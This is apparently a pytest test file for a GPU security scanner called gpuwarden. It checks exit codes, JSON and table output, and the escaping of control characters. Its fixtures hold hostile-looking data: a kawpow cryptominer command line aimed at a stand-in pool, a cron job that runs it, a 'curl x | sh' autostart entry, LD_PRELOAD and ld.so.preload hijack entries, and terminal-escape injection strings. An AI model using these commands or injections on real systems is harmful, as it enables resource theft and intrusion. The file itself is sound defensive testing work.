"""The commands over recorded nodes: exit codes, formats, widths, and nothing raw in the output."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable
from pathlib import Path

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gpuwarden.cli import main
from gpuwarden.outputs import json_output, table
from gpuwarden.outputs.sheet import cut
from gpuwarden.outputs.words import escape
from gpuwarden.snapshot import write
from tests.conftest import Golden
from tests.support.nodes import NodeBuilder, executable, gpu_id

FIXTURES = Path(__file__).parents[1] / "fixtures"
MINER = ("./rig", "-a", "kawpow", "-o", "stratum+tcp://pool.example:6060", "-u", "WALLET_X.rig")
HOSTILE = "a\x1b[31mred\n\r\t\x07\u202eevil\u200b\x9b2J"

Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def run(capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Run:
    """Runs a command and returns its exit code, output and errors."""
    monkeypatch.setattr("gpuwarden.inputs.DEFAULT_POLICY", "/nonexistent/policy.yaml")
    monkeypatch.delenv("COLUMNS", raising=False)

    def run_it(*arguments: str) -> tuple[int, str, str]:
        try:
            code = main(arguments)
        except SystemExit as error:
            code = error.code if isinstance(error.code, int) else 1
        output = capfd.readouterr()
        return code, output.out, output.err

    return run_it


@pytest.fixture
def record(tmp_path: Path) -> Callable[[NodeBuilder], str]:
    def record_it(node: NodeBuilder) -> str:
        path = str(tmp_path / "node.json.gz")
        write(path, node.snapshot())
        return path

    return record_it


def miner(node: NodeBuilder) -> NodeBuilder:
    node.process(10, exe="/home/alice/rig", argv=MINER)
    node.client(10, sm_percent=99)
    return node


def everything() -> NodeBuilder:
    """A node on which nearly every verdict occurs, with long and short names."""
    node = NodeBuilder()
    node.init()
    for index in range(8):
        node.gpu(index, name="Test GPU 80GB HBM3")
    node.source("kubernetes", scheduled=True)
    node.source("slurm", scheduled=True, ended=("99",))
    node.source("systemd", "failed", reason="the bus did not answer", remedy="run as root")
    node.pod("train-a-very-long-name-of-a-pod-7f9c", namespace="research-vision")
    node.pod_given("train-a-very-long-name-of-a-pod-7f9c", [f"uuid:{gpu_id(0)}"])
    node.process(101, user="root", container="train-a-very-long-name-of-a-pod-7f9c")
    node.client(101, 0, sm_percent=87)
    node.process(102, cgroup=node.job("7", ["index:1"]))
    node.client(102, 1, sm_percent=100)
    node.client(102, 2, memory_mib=310)
    miner(node)
    node.client(10, 3, sm_percent=99, memory_mib=4800)
    node.process(103, exe=executable("/home/alice/a.out", deleted=True), argv=("[kworker/0:1]",))
    node.client(103, 3)
    node.pod("tool", visible_devices="all", privileged=True)
    node.process(104, user="root", container="tool", exe="/usr/bin/python3.11")
    node.client(104, 4)
    node.process(105, user="bob", tty="pts/3")
    node.client(105, 5, kinds=("C", "G"), memory_mib=None)
    node.process(106, cgroup=node.job_path("99"))
    node.client(106, 5)
    node.client(107, 6)
    node.process(108, process_group=107, session_id=107, argv=("python3", "loader.py"))
    node.holds_gpu(108, 6)
    node.process(109, user="root", exe="/usr/lib/xorg/Xorg", argv=("Xorg", ":0"))
    node.client(109, 6, kinds=("G",), memory_mib=40)
    node.process(110, user="root", exe="/srv/" + "deep/" * 30 + "daemon")
    node.client(110, 6)
    node.process(111, user="root", exe=None, argv=(), unread={"exe": "permission denied"})
    node.client(111, 6)
    node.gpus[7] = type(node.gpus[7])(
        id=gpu_id(7), index=7, name="Test GPU 80GB HBM3", memory_used_bytes=20 << 30,
        memory_total_bytes=80 << 30, memory_reserved_bytes=600 << 20,
    )  # fmt: skip
    node.autostart("cron", "/etc/cron.d/x", "* * * * * root /home/alice/rig -a kawpow", line=3)
    node.xid(79, 2, message="GPU has fallen off the bus.")
    return node


# ------------------------------------------------------------------ exit codes


def test_a_clear_node_ends_with_0(node: NodeBuilder, run: Run, record: Callable[..., str]) -> None:
    node.process(10, cgroup=node.job("7", ["index:0"]))
    node.client(10)
    code, out, err = run("scan", record(node))
    assert (code, err) == (0, "")
    assert "Findings: none." in out


def test_a_node_without_accelerators_ends_with_0(run: Run, record: Callable[..., str]) -> None:
    node = NodeBuilder()
    node.sensor("nvml", "absent", "no driver")
    code, out, _ = run("scan", record(node))
    assert code == 0
    assert "No accelerator was seen on this node." in out


def test_a_finding_ends_with_1_and_wins_over_what_was_not_seen(
    node: NodeBuilder, run: Run, record: Callable[..., str]
) -> None:
    miner(node).sensor("hidden", "failed")
    assert run("scan", record(node))[0] == 1


@pytest.mark.parametrize(
    ("level", "code"), [("info", 1), ("warning", 1), ("error", 0), ("critical", 0)]
)
def test_fail_on_says_from_which_severity(
    node: NodeBuilder, run: Run, record: Callable[..., str], level: str, code: int
) -> None:
    node.process(10, user="bob")
    node.client(10)
    assert run("scan", record(node), "--fail-on", level)[0] == code


def test_what_could_not_be_evaluated_ends_with_2_and_says_so(
    node: NodeBuilder, run: Run, record: Callable[..., str]
) -> None:
    node.sensor("persistence", "failed", "permission denied")
    code, out, _ = run("scan", record(node))
    assert code == 2
    assert "persistence (failed): permission denied" in out
    assert "Not a clean result" in out


def test_a_quiet_dump_is_not_a_clean_node(run: Run) -> None:
    code, out, _ = run("scan", str(FIXTURES / "nvidia-smi" / "lost-and-numa-595.xml"))
    assert code == 2
    assert "a dump holds the driver's list only" in out


def test_a_miner_in_a_dump_ends_with_1(run: Run) -> None:
    code, out, _ = run("scan", str(FIXTURES / "nvidia-smi" / "miner-on-two-of-six-384.xml"))
    assert code == 1
    assert "cryptominer" in out


def test_a_silenced_finding_does_not_fail(
    node: NodeBuilder, run: Run, record: Callable[..., str], tmp_path: Path
) -> None:
    node.process(10, user="bob", exe=executable("/home/bob/a.out", deleted=True))
    node.client(10)
    recording = record(node)
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "exceptions: [{rule: gpu_process_suspicious, reason: a demo, match: {user: bob}}]"
    )
    assert run("scan", recording)[0] == 1
    code, out, _ = run("scan", recording, "--policy", str(policy))
    assert code == 0
    assert "suspicious (excepted)" in out
    assert "exception of the policy: a demo" in out


@pytest.mark.parametrize(
    "arguments",
    [
        (),
        ("look",),
        ("scan", "--format", "yaml"),
        ("scan", "--fail-on", "bad"),
        ("scan", "/nonexistent/node.json"),
        ("scan", "--root", "/nonexistent"),
        ("scan", "--sensors", "nonsense"),
        ("snapshot",),
        ("history",),
        ("history", "12", "--gpu", "0"),
        ("history", "twelve"),
    ],
)
def test_a_command_line_that_cannot_be_used_ends_with_64(
    run: Run, arguments: tuple[str, ...]
) -> None:
    code, out, err = run(*arguments)
    assert code == 64
    assert out == ""
    assert "gpuwarden" in err


def test_a_policy_that_is_not_there_or_is_wrong_ends_with_64(
    node: NodeBuilder, run: Run, record: Callable[..., str], tmp_path: Path
) -> None:
    recording = record(node)
    code, _, err = run("scan", recording, "--policy", "/nonexistent.yaml")
    assert (code, "no such file" in err) == (64, True)
    policy = tmp_path / "policy.yaml"
    policy.write_text("workload: []")
    code, _, err = run("scan", recording, "--policy", str(policy))
    assert code == 64
    assert f"{policy}:1:1: unknown key 'workload'" in err


@pytest.mark.parametrize("content", [b"", b"hello\n", b"{}", b"\x1f\x8b\x08", b'{"schema": 5}'])
def test_a_file_that_is_no_recording_ends_with_64(run: Run, tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "file"
    path.write_bytes(content)
    code, _, err = run("scan", str(path))
    assert code == 64
    assert str(path) in err


# ------------------------------------------------------------------ JSON


def test_json_is_valid_by_its_own_schema_and_holds_the_report(
    run: Run, record: Callable[..., str]
) -> None:
    node = everything()
    code, out, _ = run("scan", record(node), "--format", "json")
    document = json.loads(out)
    schema = json.loads(json_output.schema())
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(document, schema)
    assert (document["schema"], document["version"]) == ("gpuwarden.report", 1)
    assert code == 1
    assert json_output.parse(out.encode()) == node.judge()


def test_the_schema_refuses_what_is_no_report() -> None:
    schema = json.loads(json_output.schema())
    report = json.loads(json_output.render(everything().judge()))
    report["rows"][0]["verdict"] = "guilty"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(report, schema)


def test_the_written_schema_is_the_types() -> None:
    path = Path(__file__).parents[2] / "docs" / "report.schema.json"
    assert path.read_text() == json_output.schema()


# ------------------------------------------------------------------ the table


@pytest.mark.parametrize("width", [80, 140])
def test_the_table_fits_and_reads_as_it_did(
    run: Run,
    record: Callable[..., str],
    monkeypatch: pytest.MonkeyPatch,
    golden: Golden,
    width: int,
) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    recording = record(everything())
    _, out, _ = run("scan", recording)
    assert max(len(line) for line in out.splitlines()) <= width
    assert "\x1b" not in out
    golden.check(f"table-{width}.txt", out)


@pytest.mark.parametrize("width", [80, 140])
def test_control_characters_never_reach_the_output(width: int) -> None:
    report = hostile_node(HOSTILE).judge(
        'exceptions: [{rule: process_hidden, reason: "a\\e[2Jb", gpu: 0, expires: 2020-01-01}]'
    )
    for text in (
        table.render(report, width=width, colour=False),
        json_output.render(report),
    ):
        raw = {c for c in text if unicodedata.category(c) in ("Cc", "Cf")} - {"\n"}
        if text.startswith("{"):
            raw = {c for c in raw if unicodedata.category(c) == "Cc" and ord(c) < 0x20}
        assert raw == set()


def hostile_node(name: str) -> NodeBuilder:
    """A node in which everything that a process or a file can choose is ``name``."""
    node = NodeBuilder(hostname=name, driver_version=name)
    node.init()
    node.gpu(0, name=name)
    node.gpu(1, error=name)
    node.sensor("hidden", "failed", name)
    node.source("slurm", "failed", reason=name, remedy=name)
    node.container("c", image=name, visible_devices=name, environment={"X_USER": name})
    node.containers[0] = type(node.containers[0])(
        **{f: getattr(node.containers[0], f) for f in node.containers[0].__struct_fields__}
        | {"name": name}
    )
    node.process(
        10,
        user="alice",
        exe=executable(f"/tmp/.{name}", deleted=True),
        comm=name,
        argv=(name, name),
        environment={"SLURM_JOB_ID": name, "LD_PRELOAD": f"/tmp/{name}"},
        cgroup=f"/system.slice/{name}.service",
        login_user=name,
        loginuid=1000,
    )
    node.client(10, unread={"sm_percent": name})
    node.process(11, cgroup=f"/docker/{node.containers[0].id}", user="root")
    node.client(11)
    node.client(12, name, reported_name=name)
    node.autostart("cron", f"/etc/cron.d/{name}", f"curl x | sh {name}", f"/tmp/{name}")
    node.autostart("preload", "/etc/ld.so.preload", name)
    node.xid(13, message=name, process_name=name)
    node.holder(10, path=f"/dev/{name}", renamed=True)
    return node


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=40), st.integers(60, 160))
def test_any_name_fits_the_table_and_stays_on_its_lines(name: str, width: int) -> None:
    name = name.encode("utf-8", "ignore").decode()
    quiet = table.render(hostile_node("x").judge(), width=width, colour=False)
    text = table.render(hostile_node(name).judge(), width=width, colour=False)
    assert not {c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")} - {"\n"}
    assert "GPU" in quiet
    heads = [line for line in text.splitlines() if line.startswith(("GPU ", "0 ", "1 "))]
    assert heads


@given(st.text(max_size=60), st.integers(0, 40))
def test_what_is_cut_fits_and_what_is_escaped_is_visible(text: str, width: int) -> None:
    assert len(cut(text, width)) <= width
    assert len(cut(text, width, keep="end")) <= width
    shown = escape(text)
    assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in shown)
    assert escape(shown) == shown


def test_colour_is_for_terminals_only(node: NodeBuilder) -> None:
    report = miner(node).judge()
    assert "\x1b" in table.render(report, width=100, colour=True)
    assert "\x1b" not in table.render(report, width=100, colour=False)


# ------------------------------------------------------------------ snapshot


def test_a_snapshot_of_this_machine_replays(run: Run, tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "proc").mkdir(parents=True)
    path = tmp_path / "taken.json.gz"
    code, out, _ = run("snapshot", str(path), "--root", str(root))
    assert code in (0, 2)
    assert "0 GPUs" in out
    assert run("scan", str(path))[0] in (0, 2)


def test_a_snapshot_does_not_follow_a_link(run: Run, tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "proc").mkdir(parents=True)
    (tmp_path / "link").symlink_to(tmp_path / "target")
    code, _, err = run("snapshot", str(tmp_path / "link"), "--root", str(root))
    assert (code, "symbolic link" in err) == (64, True)
    assert not (tmp_path / "target").exists()


def test_a_library_that_is_not_there_is_a_mistake_not_an_attack(run: Run) -> None:
    code, _, errors = run("scan", "--nvml-library", "/nonexistent/libnvidia-ml.so.1")
    assert code == 64
    assert errors == "gpuwarden: --nvml-library /nonexistent/libnvidia-ml.so.1: no such file\n"
